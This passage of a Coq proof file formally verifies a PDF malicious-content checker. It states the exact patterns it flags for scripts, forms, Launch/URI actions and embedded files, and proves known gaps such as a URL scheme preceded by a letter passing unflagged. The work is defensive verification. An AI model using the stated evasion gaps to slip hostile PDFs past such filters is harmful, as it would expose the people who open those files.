  assert (any_match externalRegexes (squeeze false a ++ w ++ squeeze false b)
          = true) as ->; [|reflexivity].
  destruct Hw as [Hw|[Hw|[Hw|Hw]]].
  - eapply any_match_In; [do 6 right; left; reflexivity|].
    apply MatchString_intro; [exact Hrs|]. apply http_match; auto.
  - eapply any_match_In; [do 6 right; left; reflexivity|].
    apply MatchString_intro; [exact Hrs|]. apply http_match; auto.
  - eapply any_match_In; [do 7 right; left; reflexivity|].
    apply MatchString_intro; [exact Hrs|].
    apply scheme_match; auto using fold_class_f_word. repeat constructor.
  - eapply any_match_In; [do 8 right; left; reflexivity|].
    apply MatchString_intro; [exact Hrs|].
    apply scheme_match; auto using fold_class_f_word. repeat constructor.
Qed.

(** A URL inside a stream region. *)
Lemma url_scheme_detected_witness :
  let data := go "%PDF-1.4\nstream\nsee HTTPS://example.com\nendstream\n" in
  Check data = Some ErrExternalRefDetected.
Proof.
  intros data.
  apply (url_scheme_detected data (go "%PDF-1.4\nstream\nsee ") (go "HTTPS://")
           (go "example.com\nendstream\n")); try (vm_compute; reflexivity).
  right; left. vm_compute; reflexivity.
Defined.

(** C7 as stated fails: a scheme that follows a letter or an underscore
    is not at a word boundary, no pattern matches, and the buffer passes
    [Check]. *)
Lemma url_scheme_after_word_passes :
  Check (go "%PDF-1.4\nxhttp://example.com") = None /\
  Check (go "%PDF-1.4\n(see_ftp://example.com)") = None.
Proof. split; vm_compute; reflexivity. Qed.

(** C8.  For every buffer with a valid header that the script detector
    passes and that contains, in the raw text, [/FT/] followed by [Tx],
    [Ch], [Btn] or [Sig], in any case and with optional whitespace after
    each slash and before the second one, [Check] returns
    [ErrFormDetected]. *)
Theorem form_field_subtype_detected (data pre ws1 ft ws2 ws3 w post : bytes) :
  checkStructure data = None ->
  checkForJavaScript data = None ->
  data = pre ++ "/"%char :: ws1 ++ ft ++ ws2 ++ "/"%char :: ws3 ++ w ++ post ->
  Forall (fun b => is_space_byte b = true) ws1 ->
  Forall (fun b => is_space_byte b = true) ws2 ->
  Forall (fun b => is_space_byte b = true) ws3 ->
  spells_i "FT" ft ->
  spells_i "Tx" w \/ spells_i "Ch" w \/ spells_i "Btn" w \/ spells_i "Sig" w ->
  Check data = Some ErrFormDetected.
Proof.
  intros Hs Hj -> H1 H2 H3 Hft Hw.
  rewrite Check_unfold, Hs, Hj. cbn [first_error]. unfold checkForForms.
  assert (any_match formPatternsRegex
            (pre ++ "/"%char :: ws1 ++ ft ++ ws2 ++ "/"%char :: ws3 ++ w ++ post)
          = true) as ->; [|reflexivity].
  destruct Hw as [Hw|[Hw|[Hw|Hw]]].
  - eapply any_match_In; [do 3 right; left; reflexivity|].
    apply field_type_match; auto. repeat constructor.
  - eapply any_match_In; [do 4 right; left; reflexivity|].
    apply field_type_match; auto. repeat constructor.
  - eapply any_match_In; [do 5 right; left; reflexivity|].
    apply field_type_match; auto. repeat constructor.
  - eapply any_match_In; [do 6 right; left; reflexivity|].
    apply field_type_match; auto. repeat constructor.
Qed.

(** The four subtypes, the last one in other case and with whitespace. *)
Lemma form_field_subtype_detected_witness :
  Check (go "%PDF-1.4\n<</Type/Annot/FT/Tx>>") = Some ErrFormDetected /\
  Check (go "%PDF-1.4\n<</Type/Annot/FT/Ch>>") = Some ErrFormDetected /\
  Check (go "%PDF-1.4\n<</Type/Annot/FT/Btn>>") = Some ErrFormDetected /\
  Check (go "%PDF-1.4\n<</Type/Annot / ft\n/ SIG>>") = Some ErrFormDetected.
Proof.
  split; [|split; [|split]].
  - apply (form_field_subtype_detected _ (go "%PDF-1.4\n<</Type/Annot") []
             (go "FT") [] [] (go "Tx") (go ">>"));
      [vm_compute; reflexivity | vm_compute; reflexivity
      | vm_compute; reflexivity | constructor | constructor | constructor
      | vm_compute; reflexivity | left; vm_compute; reflexivity].
  - apply (form_field_subtype_detected _ (go "%PDF-1.4\n<</Type/Annot") []
             (go "FT") [] [] (go "Ch") (go ">>"));
      [vm_compute; reflexivity | vm_compute; reflexivity
      | vm_compute; reflexivity | constructor | constructor | constructor
      | vm_compute; reflexivity | right; left; vm_compute; reflexivity].
  - apply (form_field_subtype_detected _ (go "%PDF-1.4\n<</Type/Annot") []
             (go "FT") [] [] (go "Btn") (go ">>"));
      [vm_compute; reflexivity | vm_compute; reflexivity
      | vm_compute; reflexivity | constructor | constructor | constructor
      | vm_compute; reflexivity | right; right; left; vm_compute; reflexivity].
  - apply (form_field_subtype_detected _ (go "%PDF-1.4\n<</Type/Annot ")
             (go " ") (go "ft") (go "\n") (go " ") (go "SIG") (go ">>"));
      [vm_compute; reflexivity | vm_compute; reflexivity
      | vm_compute; reflexivity | repeat constructor | repeat constructor
      | repeat constructor
      | vm_compute; reflexivity | right; right; right; vm_compute; reflexivity].
Defined.

(** C9.  For every buffer with [%PDF-] within its first 1024 bytes in
    which no pattern of the four detectors and neither hex heuristic
    matches, [Check] returns no error. *)
Theorem clean_document_passes (data a b : bytes) :
  data = a ++ str "%PDF-" ++ b ->
  length a + 5 <= 1024 ->
  let t := stripStreams data in
  any_match jsPatterns (collapseWhitespace t) = false ->
  hex_context_loop t (FindAllStringIndex jsHexRx t) = false ->
  MatchString jsHexAngle t && MatchString jsWordRegex t = false ->
  any_match formPatternsRegex data = false ->
  any_match externalRegexes (collapseWhitespace data) = false ->
  any_match embeddedFilesRegex data = false ->
  Check data = None.
Proof.
  intros E L t H1 H2 H3 H4 H5 H6.
  assert (checkStructure data = None) as Hs.
  { unfold checkStructure.
    assert (length data = length a + (5 + length b)) as Ld
      by (rewrite E, !length_app; reflexivity).
    assert (length data <> 0) as Hne by lia.
    apply Nat.eqb_neq in Hne. rewrite Hne, header_limit_min.
    remember (Nat.min 1024 (length data)) as m eqn:Em.
    assert (length a + 5 <= m) as Lm by lia.
    assert (Contains (firstn m data) (str "%PDF-") = true) as ->;
      [|reflexivity].
    apply Contains_spec.
    exists a, (firstn (m - length a - 5) b).
    rewrite E, firstn_app, firstn_all2 by lia. f_equal.
    rewrite firstn_app, firstn_all2 by (cbn [length str list_ascii_of_string]; lia).
    reflexivity. }
  rewrite Check_unfold, Hs. cbn [first_error].
  unfold checkForJavaScript, checkForForms, checkForExternalReferences,
    checkForEmbeddedFiles.
  fold t. now rewrite H1, H2, H3, H4, H5, H6.
Qed.

(** The minimal document of the test suite: catalog, pages and one page. *)
Lemma clean_document_passes_witness :
  Check (go "%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>\nendobj\nxref\n0 4\n0000000000 65535 f \n0000000009 00000 n \n0000000058 00000 n \n0000000115 00000 n \ntrailer\n<</Size 4/Root 1 0 R>>\nstartxref\n174\n%%EOF") = None.
Proof.
  apply (clean_document_passes _ [] (go "1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>\nendobj\nxref\n0 4\n0000000000 65535 f \n0000000009 00000 n \n0000000058 00000 n \n0000000115 00000 n \ntrailer\n<</Size 4/Root 1 0 R>>\nstartxref\n174\n%%EOF"));
    try (vm_compute; reflexivity).
  cbn; lia.
Defined.

(** C10.  The test for scripting vocabulary has no word boundary: there
    is a buffer with a valid header, matched by no pattern of any
    detector and with no [#]-hex window, that contains an angle-bracket
    hex string and the word [json] (and no [javascript]), for which
    [Check] returns [ErrJavaScriptDetected]. *)
Theorem js_inside_word_flagged :
  exists data,
    checkStructure data = None /\
    any_match jsPatterns (collapseWhitespace (stripStreams data)) = false /\
    hex_context_loop (stripStreams data)
      (FindAllStringIndex jsHexRx (stripStreams data)) = false /\
    any_match formPatternsRegex data = false /\
    any_match externalRegexes (collapseWhitespace data) = false /\
    any_match embeddedFilesRegex data = false /\
    has_angle_hex (stripStreams data) /\
    data = go "%PDF-1.4\n(" ++ str "json" ++ go ") <48656C6C6F>" /\
    MatchString (lit_i "javascript") data = false /\
    Check data = Some ErrJavaScriptDetected.
Proof.
  exists (go "%PDF-1.4\n(json) <48656C6C6F>").
  repeat split; try (vm_compute; reflexivity).
  exists (go "%PDF-1.4\n(json) "), (go "48656C6C6F"), [].
  split; [vm_compute; reflexivity|]. split; [cbn; lia | repeat constructor].
Qed.

(** * Further properties of the package *)

(** X1.  [Check] returns nil or one of the five errors of its steps; the
    exported [ErrMaliciousPDF] is never returned. *)
Theorem Check_error_kinds (data : bytes) :
  In (Check data)
     [None; Some ErrInvalidPDFStructure; Some ErrJavaScriptDetected;
      Some ErrFormDetected; Some ErrExternalRefDetected;
      Some ErrEmbeddedFileDetected]
  /\ Check data <> Some ErrMaliciousPDF.
Proof.
  rewrite Check_unfold.
  unfold checkStructure, checkForForms, checkForExternalReferences,
    checkForEmbeddedFiles.
  destruct (checkForJavaScript_kind data) as [-> | ->];
    repeat match goal with |- context [if ?b then _ else _] => destruct b end;
    cbn [first_error In]; split; try discriminate; auto 10.
Qed.

(** X2.  [Check] returns nil exactly for a buffer with a valid header that
    holds no script marker, no form marker, no external-reference marker in
    its whitespace-collapsed text, and no embedded-file marker. *)
Theorem Check_nil_exact (data : bytes) :
  Check data = None <->
  has_valid_header data /\ ~ has_script_marker data /\
  ~ has_form_marker data /\
  ~ has_external_marker (collapseWhitespace data) /\
  ~ has_embedded_marker data.
Proof.
  rewrite Check_unfold. unfold has_valid_header.
  rewrite <- checkStructure_spec, <- checkForJavaScript_marker,
    <- checkForForms_marker, <- external_marker,
    <- checkForEmbeddedFiles_marker.
  destruct (checkForJavaScript_kind data) as [-> | ->];
    unfold checkStructure, checkForForms, checkForExternalReferences,
      checkForEmbeddedFiles;
    repeat match goal with |- context [if ?b then _ else _] => destruct b end;
    cbn [first_error]; (split; [try discriminate|]);
    intuition congruence.
Qed.

(** X3.  The forms detector reports [ErrFormDetected] exactly when the text,
    as it is, holds a slash, optional whitespace and a spelling of
    [AcroForm], [XFA] or [Widget], or the key [/FT] followed by the name
    [/Tx], [/Ch], [/Btn] or [/Sig]; otherwise it returns nil. *)
Theorem forms_exact (content : bytes) :
  (checkForForms content = Some ErrFormDetected <-> has_form_marker content) /\
  (checkForForms content = None <-> ~ has_form_marker content).
Proof.
  split; [apply checkForForms_marker|].
  rewrite <- checkForForms_marker. unfold checkForForms.
  destruct (any_match _ content); split; congruence.
Qed.

(** X4.  For every buffer with a valid header that the script detector
    passes and that holds a slash, optional whitespace and a spelling of
    [AcroForm], [XFA] or [Widget] in any case, inside a stream region or
    not, [Check] returns [ErrFormDetected]. *)
Theorem form_key_detected (data a ws w b : bytes) (kw : string) :
  checkStructure data = None ->
  checkForJavaScript data = None ->
  data = a ++ "/"%char :: ws ++ w ++ b ->
  Forall (fun x => is_space_byte x = true) ws ->
  In kw form_keys -> spells_i kw w ->
  Check data = Some ErrFormDetected.
Proof.
  intros Hs Hj -> Hws Hin Hw. apply Check_forms; auto.
  apply checkForForms_marker. left. exists kw. split; [exact Hin|].
  now exists a, ws, w, b.
Qed.

(** A widget annotation inside a stream region. *)
Lemma form_key_detected_witness :
  let data := go "%PDF-1.4\nstream\n<< /Subtype /\n widget >>\nendstream" in
  Check data = Some ErrFormDetected.
Proof.
  intros data.
  apply (form_key_detected data (go "%PDF-1.4\nstream\n<< /Subtype ")
           (go "\n ") (go "widget") (go " >>\nendstream") "Widget").
  - vm_compute; reflexivity.
  - vm_compute; reflexivity.
  - vm_compute; reflexivity.
  - repeat constructor.
  - cbn; tauto.
  - vm_compute; reflexivity.
Defined.

(** X5.  The embedded-file detector reports [ErrEmbeddedFileDetected]
    exactly when the text, as it is, holds a slash, optional whitespace and
    a spelling of [EmbeddedFile], [FileAttachment] or [Filespec]; otherwise
    it returns nil. *)
Theorem embedded_files_exact (content : bytes) :
  (checkForEmbeddedFiles content = Some ErrEmbeddedFileDetected
   <-> has_embedded_marker content) /\
  (checkForEmbeddedFiles content = None <-> ~ has_embedded_marker content).
Proof.
  split; [apply checkForEmbeddedFiles_marker|].
  rewrite <- checkForEmbeddedFiles_marker. unfold checkForEmbeddedFiles.
  destruct (any_match _ content); split; congruence.
Qed.

(** X6.  For every buffer with a valid header that the three earlier
    detectors pass and that holds a slash, optional whitespace and a
    spelling of [EmbeddedFile], [FileAttachment] or [Filespec] in any case,
    [Check] returns [ErrEmbeddedFileDetected]. *)
Theorem embedded_file_detected (data a ws w b : bytes) (kw : string) :
  checkStructure data = None ->
  checkForJavaScript data = None ->
  checkForForms data = None ->
  checkForExternalReferences data = None ->
  data = a ++ "/"%char :: ws ++ w ++ b ->
  Forall (fun x => is_space_byte x = true) ws ->
  In kw embedded_keys -> spells_i kw w ->
  Check data = Some ErrEmbeddedFileDetected.
Proof.
  intros Hs Hj Hf He -> Hws Hin Hw. apply Check_embedded; auto.
  apply checkForEmbeddedFiles_marker. exists kw. split; [exact Hin|].
  now exists a, ws, w, b.
Qed.

(** A file specification in upper case. *)
Lemma embedded_file_detected_witness :
  let data := go "%PDF-1.4\n<< /Type /FILESPEC /F 8 0 R >>" in
  Check data = Some ErrEmbeddedFileDetected.
Proof.
  intros data.
  apply (embedded_file_detected data (go "%PDF-1.4\n<< /Type ") []
           (go "FILESPEC") (go " /F 8 0 R >>") "Filespec").
  - vm_compute; reflexivity.
  - vm_compute; reflexivity.
  - vm_compute; reflexivity.
  - vm_compute; reflexivity.
  - vm_compute; reflexivity.
  - constructor.
  - cbn; tauto.
  - vm_compute; reflexivity.
Defined.

(** X7.  Bytes added before or after a text that the forms detector or the
    embedded-file detector reports do not hide the marker: the longer text
    is reported too. *)
Theorem marker_survives_context (content pre post : bytes) :
  (checkForForms content = Some ErrFormDetected ->
   checkForForms (pre ++ content ++ post) = Some ErrFormDetected) /\
  (checkForEmbeddedFiles content = Some ErrEmbeddedFileDetected ->
   checkForEmbeddedFiles (pre ++ content ++ post)
   = Some ErrEmbeddedFileDetected).
Proof.
  rewrite !checkForForms_marker, !checkForEmbeddedFiles_marker. split.
  - intros [(kw & Hin & H)|(sub & Hin & H)]; [left|right].
    + exists kw. split; [exact Hin | now apply has_slash_keyword_context].
    + exists sub. split; [exact Hin | now apply has_field_type_context].
  - intros (kw & Hin & H).
    exists kw. split; [exact Hin | now apply has_slash_keyword_context].
Qed.

(** A marker wrapped in a stream region, and one between two letters. *)
Lemma marker_survives_context_witness :
  checkForForms (go "%PDF-1.4\nstream " ++ go "/XFA" ++ go " endstream")
  = Some ErrFormDetected /\
  checkForEmbeddedFiles (go "x" ++ go "/ filespec" ++ go "y")
  = Some ErrEmbeddedFileDetected.
Proof.
  split.
  - apply (marker_survives_context (go "/XFA") (go "%PDF-1.4\nstream ")
             (go " endstream")).
    vm_compute; reflexivity.
  - apply (marker_survives_context (go "/ filespec") (go "x") (go "y")).
    vm_compute; reflexivity.
Defined.

(** X8.  The external-reference detector reports [ErrExternalRefDetected]
    exactly when the whitespace-collapsed text holds one of: a slash,
    optional whitespace and a spelling of [GoToR], [Launch], [ImportData] or
    [SubmitForm]; the key [/URI] with no word character after it; a spelling
    of [URI], optional whitespace and an opening parenthesis; a spelling of
    [http://], [https://], [file://] or [ftp://] with no word character
    before it.  Otherwise it returns nil. *)
Theorem external_exact (content : bytes) :
  let u := collapseWhitespace content in
  (checkForExternalReferences content = Some ErrExternalRefDetected
   <-> has_external_marker u) /\
  (checkForExternalReferences content = None <-> ~ has_external_marker u).
Proof.
  intros u. unfold checkForExternalReferences. fold u.
  rewrite <- external_marker_spec.
  destruct (any_match externalRegexes u); split; split;
    congruence || discriminate || tauto.
Qed.

(** X9.  For every buffer with a valid header that the script and forms
    detectors pass and that holds a slash, optional whitespace and a
    spelling of [GoToR], [Launch], [ImportData] or [SubmitForm] in any case,
    inside a stream region or not, [Check] returns [ErrExternalRefDetected].
    *)
Theorem external_action_detected (data a ws w b : bytes) (kw : string) :
  checkStructure data = None ->
  checkForJavaScript data = None ->
  checkForForms data = None ->
  data = a ++ "/"%char :: ws ++ w ++ b ->
  Forall (fun x => is_space_byte x = true) ws ->
  In kw action_keys -> spells_i kw w ->
  Check data = Some ErrExternalRefDetected.
Proof.
  intros Hs Hj Hf -> Hws Hin Hw. apply Check_external; auto.
  pose proof keys_ascii as Hk. rewrite Forall_forall in Hk.
  destruct (Hk kw) as (Ha & Hn & c & kw' & E).
  { do 3 (apply in_or_app; right). apply in_or_app. now left. }
  apply (external_match_direct (slash_rx kw)).
  - rewrite externalRegexes_shapes. apply in_or_app. left. now apply in_map.
  - rewrite collapseWhitespace_squeeze. apply slash_rx_spec; [exact Ha|].
    subst kw. apply has_slash_keyword_squeeze; [exact Hn|].
    now exists a, ws, w, b.
Qed.

(** A launch action inside a stream region, its name on the next line. *)
Lemma external_action_detected_witness :
  let data := go "%PDF-1.4\nstream\n<< /S /\n launch /F 7 0 R >>\nendstream" in
  Check data = Some ErrExternalRefDetected.
Proof.
  intros data.
  apply (external_action_detected data (go "%PDF-1.4\nstream\n<< /S ")
           (go "\n ") (go "launch") (go " /F 7 0 R >>\nendstream") "Launch").
  - vm_compute; reflexivity.
  - vm_compute; reflexivity.
  - vm_compute; reflexivity.
  - vm_compute; reflexivity.
  - repeat constructor.
  - cbn; tauto.
  - vm_compute; reflexivity.
Defined.

(** X10.  For every buffer with a valid header that the script and forms
    detectors pass and that holds the key [/URI] with no word character
    after it, or a spelling of [URI], optional whitespace and an opening
    parenthesis, [Check] returns [ErrExternalRefDetected]. *)
Theorem uri_detected (data : bytes) :
  checkStructure data = None ->
  checkForJavaScript data = None ->
  checkForForms data = None ->
  has_uri_key data \/ has_call "URI" "(" data ->
  Check data = Some ErrExternalRefDetected.
Proof.
  intros Hs Hj Hf H. apply Check_external; auto. destruct H as [H|H].
  - apply (external_match_direct uri_key_rx).
    + rewrite externalRegexes_shapes. apply in_or_app. right. now left.
    + rewrite collapseWhitespace_squeeze.
      now apply uri_key_match, has_uri_key_squeeze.
  - apply (external_match_direct (call_rx "URI" "(")).
    + rewrite externalRegexes_shapes. apply in_or_app. right. right. now left.
    + rewrite collapseWhitespace_squeeze.
      apply (call_rx_spec "URI" "U" "RI" "(");
        [reflexivity | repeat constructor | split; reflexivity|].
      apply has_call_squeeze; [repeat constructor | reflexivity | exact H].
Qed.

(** The key in lower case, closed by the end of the dictionary. *)
Lemma uri_detected_witness :
  let data := go "%PDF-1.4\n<< /S /uri>>" in
  Check data = Some ErrExternalRefDetected.
Proof.
  intros data. apply (uri_detected data); try (vm_compute; reflexivity).
  left. exists (go "%PDF-1.4\n<< /S "), [], (go "uri"), (go ">>").
  split; [vm_compute; reflexivity|].
  split; [constructor|]. split; vm_compute; reflexivity.
Defined.

(** X11.  The script detector reports [ErrJavaScriptDetected] exactly when
    the stream-stripped text, once its whitespace is collapsed, holds a
    marker of one of the direct patterns, or the stream-stripped text holds
    a hex window, or it holds both an angle-bracket hex string and scripting
    vocabulary; otherwise it returns nil. *)
Theorem script_detector_exact (content : bytes) :
  (checkForJavaScript content = Some ErrJavaScriptDetected
   <-> has_script_marker content) /\
  (checkForJavaScript content = None <-> ~ has_script_marker content).
Proof.
  split; [apply checkForJavaScript_marker|].
  rewrite <- checkForJavaScript_marker.
  destruct (checkForJavaScript_kind content) as [-> | ->];
    split; congruence.
Qed.

(** X12.  When no direct pattern matched, a hex window in the
    stream-stripped text is reported, and a report is due to a hex window or
    to the co-occurrence of an angle-bracket hex string and scripting
    vocabulary: a [#] with fewer than eight hex digits, or with no scripting
    vocabulary in the 80 bytes before it, is not a reason. *)
Theorem hex_window_exact (content : bytes) :
  let t := stripStreams content in
  any_match jsPatterns (collapseWhitespace t) = false ->
  (has_hex_window t -> checkForJavaScript content = Some ErrJavaScriptDetected)
  /\ (checkForJavaScript content = Some ErrJavaScriptDetected ->
      has_hex_window t \/ (has_angle_hex t /\ has_js_word t)).
Proof.
  intros t H. unfold checkForJavaScript. fold t. rewrite H.
  pose proof (hex_window_spec t) as Hw.
  destruct (hex_context_loop t (FindAllStringIndex jsHexRx t)).
  - split; [reflexivity|]. intros _. left. now apply Hw.
  - split; [intros Hh; apply Hw in Hh; discriminate|].
    destruct (MatchString jsHexAngle t) eqn:E1; [|discriminate].
    destruct (MatchString jsWordRegex t) eqn:E2; [|discriminate].
    intros _. right.
    split; [now apply jsHexAngle_spec | now apply jsWordRegex_spec].
Qed.

(** A buffer that no direct pattern matches. *)
Lemma hex_window_exact_witness :
  let content := go "%PDF-1.4\n(JavaScript) 12 #6170702E616C657274" in
  (has_hex_window (stripStreams content) ->
   checkForJavaScript content = Some ErrJavaScriptDetected)
  /\ (checkForJavaScript content = Some ErrJavaScriptDetected ->
      has_hex_window (stripStreams content) \/
      (has_angle_hex (stripStreams content) /\
       has_js_word (stripStreams content))).
Proof.
  intros content. apply (hex_window_exact content). vm_compute; reflexivity.
Defined.

(** X13.  For every buffer with a valid header whose stream-stripped text
    holds a spelling of [app], [document] or [this], optional whitespace and
    a dot, or a spelling of [eval], [getField], [submitForm] or
    [importDataObject], optional whitespace and an opening parenthesis,
    [Check] returns [ErrJavaScriptDetected].  No word boundary is asked for
    before the keyword. *)
Theorem script_call_detected (data a w ws b : bytes) (kw : string) (p : ascii) :
  checkStructure data = None ->
  stripStreams data = a ++ w ++ ws ++ p :: b ->
  Forall (fun x => is_space_byte x = true) ws ->
  In (kw, p) script_calls -> spells_i kw w ->
  Check data = Some ErrJavaScriptDetected.
Proof.
  intros Hs Ht Hws Hin Hw. apply Check_script; [exact Hs|].
  apply checkForJavaScript_direct.
  apply (script_call_match (kw, p) _ Hin). cbn [fst snd]. rewrite Ht.
  now exists a, w, ws, b.
Qed.

(** A sentence that ends with a word in [app]. *)
Lemma script_call_detected_witness :
  let data := go "%PDF-1.4\n(Contact us on WhatsApp .)" in
  Check data = Some ErrJavaScriptDetected.
Proof.
  intros data.
  apply (script_call_detected data (go "%PDF-1.4\n(Contact us on Whats")
           (go "App") (go " ") (go ")") "app" ".").
  - vm_compute; reflexivity.
  - vm_compute; reflexivity.
  - repeat constructor.
  - left. reflexivity.
  - vm_compute; reflexivity.
Defined.

(** X14.  For every buffer with a valid header whose stream-stripped text
    holds a slash, optional whitespace and a spelling of [OpenAction] in any
    case, [Check] returns [ErrJavaScriptDetected], whatever the action is.
    *)
Theorem open_action_detected (data pre ws kw post : bytes) :
  checkStructure data = None ->
  stripStreams data = pre ++ "/"%char :: ws ++ kw ++ post ->
  Forall (fun b => is_space_byte b = true) ws ->
  spells_i "OpenAction" kw ->
  Check data = Some ErrJavaScriptDetected.
Proof.
  intros Hs Ht Hws Hkw. apply Check_script; [exact Hs|].
  apply checkForJavaScript_direct.
  apply (script_key_match "OpenAction"); [cbn; tauto|].
  rewrite Ht. now exists pre, ws, kw, post.
Qed.

(** An open action that goes to a page. *)
Lemma open_action_detected_witness :
  let data := go "%PDF-1.4\n<< /Type /Catalog /OpenAction [3 0 R /Fit] >>" in
  Check data = Some ErrJavaScriptDetected.
Proof.
  intros data.
  apply (open_action_detected data (go "%PDF-1.4\n<< /Type /Catalog ") []
           (go "OpenAction") (go " [3 0 R /Fit] >>")).
  - vm_compute; reflexivity.
  - vm_compute; reflexivity.
  - constructor.
  - vm_compute; reflexivity.
Defined.

(** X15.  For every buffer with a valid header whose stream-stripped text
    holds a spelling of [JS(], optional whitespace, and a [#] followed by
    two hex digits or more, [Check] returns [ErrJavaScriptDetected]. *)
Theorem js_hex_call_detected (data a w ws h b : bytes) :
  checkStructure data = None ->
  stripStreams data = a ++ w ++ ws ++ "#"%char :: h ++ b ->
  spells_i "JS(" w ->
  Forall (fun x => is_space_byte x = true) ws ->
  Forall (fun x => is_hex_byte x = true) h -> 2 <= length h ->
  Check data = Some ErrJavaScriptDetected.
Proof.
  intros Hs Ht Hw Hws Hh Lh. apply Check_script; [exact Hs|].
  apply checkForJavaScript_direct. rewrite Ht, collapseWhitespace_squeeze.
  destruct (has_call_hex_squeeze a w ws h b Hw Hws Hh)
    as (a' & ws' & b' & -> & Hws').
  eapply any_match_In; [do 10 right; left; reflexivity|].
  now apply js_hex_call_match.
Qed.

Lemma js_hex_call_detected_witness :
  let data := go "%PDF-1.4\njs( #6a" in
  Check data = Some ErrJavaScriptDetected.
Proof.
  intros data.
  apply (js_hex_call_detected data (go "%PDF-1.4\n") (go "js(") (go " ")
           (go "6a") []).
  - vm_compute; reflexivity.
  - vm_compute; reflexivity.
  - vm_compute; reflexivity.
  - repeat constructor.
  - repeat constructor.
  - cbn; lia.
Defined.

(** X16.  A text without a slash and without an opening parenthesis passes
    the forms detector, the external-reference detector and the
    embedded-file detector. *)
Theorem detectors_need_slash_or_paren (data : bytes) :
  free_of (str "/(") data = true ->
  checkForForms data = None /\ checkForExternalReferences data = None /\
  checkForEmbeddedFiles data = None.
Proof.
  intros H.
  assert (forall x, In x (str "/(") -> ~ In x data) as Hd
    by (intros x; now apply free_of_spec).
  unfold checkForForms, checkForExternalReferences, checkForEmbeddedFiles.
  rewrite (any_match_requires _ _ _ formPatternsRegex_require Hd).
  rewrite (any_match_requires _ _ _ embeddedFilesRegex_require Hd).
  rewrite (any_match_requires _ externalRegexes _ externalRegexes_require);
    [auto|].
  intros x Hx Hin. rewrite collapseWhitespace_squeeze in Hin.
  apply squeeze_In in Hin as [Hin| ->]; [now apply (Hd x)|].
  cbn in Hx. intuition discriminate.
Qed.

(** A web address without scheme and a mail address. *)
Lemma detectors_need_slash_or_paren_witness :
  let data := go "%PDF-1.4\nSee www.example.com or write to app@example.com" in
  checkForForms data = None /\ checkForExternalReferences data = None /\
  checkForEmbeddedFiles data = None.
Proof.
  intros data. apply (detectors_need_slash_or_paren data).
  vm_compute; reflexivity.
Defined.

(** X17.  A buffer that holds none of the bytes [/], [(], [.], [#] and [<]
    passes the script detector; if its header is valid, [Check] returns nil.
    *)
Theorem marker_free_buffer_passes (data : bytes) :
  free_of (str "/(.#<") data = true ->
  checkForJavaScript data = None /\
  (checkStructure data = None -> Check data = None).
Proof.
  intros H.
  assert (forall x, In x (str "/(.#<") -> ~ In x data) as Hd
    by (intros x; now apply free_of_spec).
  assert (forall x, In x (str "/(.#<") -> ~ In x (stripStreams data)) as Ht.
  { intros x Hx Hin. rewrite stripStreams_from in Hin.
    apply (replace_from_In _ _ _ consuming_streamRx) in Hin as [Hin|Hin].
    - now apply (Hd x).
    - cbn in Hx, Hin. intuition congruence. }
  assert (checkForJavaScript data = None) as Hj.
  { unfold checkForJavaScript.
    rewrite (any_match_requires (fun x => In x (str "/(.")) jsPatterns _
               jsPatterns_require).
    2:{ intros x Hx Hin. rewrite collapseWhitespace_squeeze in Hin.
        apply squeeze_In in Hin as [Hin| ->].
        - apply (Ht x); [|exact Hin]. cbn in Hx |- *. tauto.
        - cbn in Hx. intuition discriminate. }
    rewrite FindAll_no_match.
    2:{ destruct (MatchString jsHexRx _) eqn:E; [|reflexivity].
        apply (requires_match "#") in E.
        - exfalso. apply (Ht "#"%char); [cbn; tauto | exact E].
        - apply req_left, requires_lit; [reflexivity | now left]. }
    cbn [hex_context_loop].
    destruct (MatchString jsHexAngle _) eqn:E; [|reflexivity].
    apply (requires_match "<") in E.
    - exfalso. apply (Ht "<"%char); [cbn; tauto | exact E].
    - apply req_left, requires_lit; [reflexivity | now left]. }
  split; [exact Hj|]. intros Hs.
  assert (forall x, In x (str "/(") -> ~ In x data) as Hd2.
  { intros x Hx. apply Hd. cbn in Hx |- *. tauto. }
  rewrite Check_unfold, Hs, Hj. cbn [first_error].
  unfold checkForForms, checkForExternalReferences, checkForEmbeddedFiles.
  rewrite (any_match_requires _ _ _ formPatternsRegex_require Hd2).
  rewrite (any_match_requires _ _ _ embeddedFilesRegex_require Hd2).
  rewrite (any_match_requires _ externalRegexes _ externalRegexes_require);
    [reflexivity|].
  intros x Hx Hin. rewrite collapseWhitespace_squeeze in Hin.
  apply squeeze_In in Hin as [Hin| ->]; [now apply (Hd2 x)|].
  cbn in Hx. intuition discriminate.
Qed.

(** Scripting vocabulary alone is no reason to report. *)
Lemma marker_free_buffer_passes_witness :
  let data := go "%PDF-2\nThis document has no javascript, the app says" in
  checkForJavaScript data = None /\ Check data = None.
Proof.
  intros data.
  destruct (marker_free_buffer_passes data) as [H1 H2];
    [vm_compute; reflexivity|].
  split; [exact H1 | apply H2; vm_compute; reflexivity].
Defined.

(** X18.  Stream stripping leaves a text without a spelling of [endstream]
    as it is: a begin keyword with no end keyword hides nothing from the
    script detector. *)
Theorem unterminated_stream_kept (data : bytes) :
  index_i "endstream" data = None -> stripStreams data = data.
Proof. intros H. apply stripStreams_unterminated. now right. Qed.

(** A stream that is not closed. *)
Lemma unterminated_stream_kept_witness :
  let data := go "%PDF-1.4\n5 0 obj\nstream\n/JavaScript (x)\nendobj" in
  stripStreams data = data.
Proof.
  intros data. apply (unterminated_stream_kept data).
  vm_compute; reflexivity.
Defined.

(** X19.  Neither stream stripping nor whitespace collapsing lengthens the
    text. *)
Theorem normalisations_do_not_lengthen (content : bytes) :
  length (stripStreams content) <= length content /\
  length (collapseWhitespace content) <= length content.
Proof.
  split.
  - rewrite stripStreams_from.
    apply (replace_from_length streamRx (str " ") consuming_streamRx
             (le_n 1) (Cur None content)).
  - rewrite collapseWhitespace_squeeze. apply squeeze_length.
Qed.

(** X20.  Replacing every match of [\s+] by one space replaces each maximal
    run of the bytes tab, line feed, form feed, carriage return and space by
    a single space, and copies every other byte. *)
Theorem whitespace_runs_collapsed (content : bytes) :
  collapseWhitespace content = squeeze false content.
Proof. apply collapseWhitespace_squeeze. Qed.

(** X21.  Whitespace collapsing is idempotent. *)
